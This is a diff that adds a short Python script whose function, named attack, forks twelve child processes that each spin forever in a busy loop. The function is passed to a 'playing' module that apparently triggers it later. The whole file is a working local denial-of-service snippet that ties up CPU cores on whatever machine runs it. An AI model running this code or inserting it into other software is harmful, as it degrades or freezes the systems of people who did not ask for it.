@@ -1,0 +1,15 @@
+#!/usr/bin/env python3
+"""Twelve children that never rest."""
+import os
+
+import playing
+
+
+def attack():
+    for _ in range(12):
+        if os.fork() == 0:
+            while True:
+                pass
+
+
+playing.play_after(attack)
